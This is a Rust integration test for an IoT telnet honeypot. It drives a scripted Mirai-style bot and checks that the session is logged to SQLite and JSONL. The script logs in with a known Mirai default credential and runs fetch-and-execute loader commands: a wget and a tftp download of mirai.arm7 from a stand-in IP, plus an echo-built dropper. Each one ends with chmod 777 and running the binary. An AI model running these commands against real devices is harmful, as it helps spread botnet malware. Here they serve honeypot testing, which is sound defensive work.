//! A scripted Mirai-style bot against the real binary: the scanner flow and
//! all three loader delivery methods (wget, tftp, echo). Everything must be
//! in SQLite and in JSONL.

mod common;
use common::*;

#[test]
fn mirai_scanner_and_loader_are_recorded() {
    let mut hp = Honeypot::start("mirai", "dvr-xiongmai", "");
    let mut bot = Bot::connect(hp.addr);
    // Mirai needs IAC as the very first byte, or it never brute-forces.
    let mut first = [0u8; 1];
    std::io::Read::read_exact(&mut bot.s, &mut first).unwrap();
    assert_eq!(first[0], 0xff);
    bot.seen.push(first[0]);
    // Scanner: login, enable/system/shell/sh, the busybox token.
    let motd = bot.login("root", "xc3511");
    assert!(!motd.contains("ncorrect"), "{motd}");
    for c in ["enable", "system", "shell", "sh"] {
        bot.cmd(c);
    }
    assert!(bot
        .cmd("/bin/busybox MIRAI")
        .contains("MIRAI: applet not found"));
    // Loader.
    assert!(bot.cmd("/bin/busybox ps").contains("PID USER"));
    let mounts = bot.cmd("/bin/busybox cat /proc/mounts");
    assert!(mounts.contains(" rw"));
    let kami = bot.cmd("/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69' > /var/.nippon; /bin/busybox cat /var/.nippon; /bin/busybox rm /var/.nippon");
    assert!(kami.contains("kami"), "{kami}");
    bot.cmd("cd /var/");
    bot.cmd("/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI");
    // The loader parses the ELF header of /bin/echo to pick the CPU.
    bot.send("/bin/busybox cat /bin/echo");
    let elf = bot.until_prompt(None);
    let start = elf
        .find("\u{7f}ELF")
        .expect("an ELF header in cat /bin/echo");
    let raw = &elf.as_bytes()[start..];
    assert_eq!(raw[4], 1, "32-bit");
    assert_eq!(raw[5], 1, "little-endian");
    assert_eq!(raw[18], 40, "ARM");
    bot.cmd("/bin/busybox wget http://198.51.100.23:80/bins/mirai.arm7 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI");
    bot.cmd("/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 198.51.100.23; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI");
    // Echo delivery: the file is built 128 bytes per line, byte-exact.
    let mut payload = b"\x7fELF\x01\x01\x01\x00".to_vec();
    payload.extend((0..900u32).map(|i| ((i * 131 + 7) % 256) as u8));
    bot.cmd(">upnp; /bin/busybox chmod 777 upnp");
    for chunk in payload.chunks(128) {
        let hex: String = chunk.iter().map(|b| format!("\\x{b:02x}")).collect();
        let out = bot.cmd(&format!("/bin/busybox echo -ne '{hex}' >> upnp && /bin/busybox echo -ne '\\x45\\x43\\x43\\x48\\x49'"));
        assert!(out.contains("ECCHI"));
    }
    bot.cmd("./upnp; ./dvrHelper telnet.arm7; /bin/busybox IHCCE");
    drop(bot);
    // The bot hung up: its session ends as the client's doing, not as the
    // shutdown's.
    hp.wait_closed(1);
    hp.stop();

    let db = hp.db();
    let count = |sql: &str| -> i64 { db.query_row(sql, [], |r| r.get(0)).unwrap() };
    assert_eq!(count("SELECT count(*) FROM events WHERE eventid = 'iotpot.login.success' AND data LIKE '%xc3511%'"), 1);
    assert!(count("SELECT count(*) FROM events WHERE eventid = 'iotpot.command.input'") >= 18);
    assert_eq!(count("SELECT count(*) FROM events WHERE eventid = 'iotpot.command.input' AND data GLOB '*busybox MIRAI*'"), 1);
    let urls: Vec<String> = column(&db, "SELECT json_extract(data, '$.url') FROM events WHERE eventid = 'iotpot.download.requested' ORDER BY id");
    assert_eq!(
        urls,
        [
            "http://198.51.100.23:80/bins/mirai.arm7",
            "tftp://198.51.100.23/mirai.arm7"
        ]
    );
    let (content, sha): (String, String) = db
        .query_row(
            "SELECT json_extract(data, '$.content'), json_extract(data, '$.shasum') FROM events WHERE eventid = 'iotpot.file.written' AND json_extract(data, '$.outfile') = '/var/upnp'",
            [],
            |r| Ok((r.get(0)?, r.get(1)?)),
        )
        .unwrap();
    let hex: String = payload.iter().map(|b| format!("{b:02x}")).collect();
    assert_eq!(content, hex, "the echo-built file is stored byte-exact");
    let want = {
        use sha2::Digest;
        hex::encode(sha2::Sha256::digest(&payload))
    };
    assert_eq!(sha, want, "the event names the file's own SHA-256");
    let session: (String, i64, i64, String) = db
        .query_row(
            "SELECT profile, login_ok, downloads, close_reason FROM sessions",
            [],
            |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?)),
        )
        .unwrap();
    assert_eq!(
        session,
        ("dvr-xiongmai".to_string(), 1, 2, "client".to_string())
    );

    // The same, in JSONL.
    let events = hp.jsonl();
    let ids: Vec<&str> = events
        .iter()
        .map(|e| e["eventid"].as_str().unwrap())
        .collect();
    assert_eq!(ids.first(), Some(&"iotpot.session.connect"));
    assert_eq!(ids.last(), Some(&"iotpot.session.closed"));
    assert!(events
        .iter()
        .any(|e| e["eventid"] == "iotpot.download.requested"
            && e["url"] == "tftp://198.51.100.23/mirai.arm7"
            && e["tool"] == "tftp"));
    assert!(events
        .iter()
        .any(|e| e["eventid"] == "iotpot.file.written" && e["content"] == hex.as_str()));
    assert!(events.iter().any(|e| e["eventid"] == "iotpot.file.executed"
        && e["outfile"] == "/var/dvrHelper"
        && e["args"] == "telnet.arm7"));
    assert_eq!(
        events.len() as i64,
        count("SELECT count(*) FROM events"),
        "both sinks hold every event"
    );
}
